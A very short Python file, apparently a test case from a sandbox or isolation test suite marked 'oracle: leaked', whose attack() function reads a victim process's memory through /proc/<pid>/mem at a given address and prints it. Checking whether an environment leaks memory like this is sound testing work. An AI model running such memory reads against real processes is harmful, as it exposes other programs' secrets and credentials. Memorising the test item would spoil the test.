# oracle: leaked
from host import ADDRESS, LENGTH, VICTIM


def attack():
    with open(f"/proc/{VICTIM}/mem", "rb") as file:
        file.seek(ADDRESS)
        print(file.read(LENGTH))
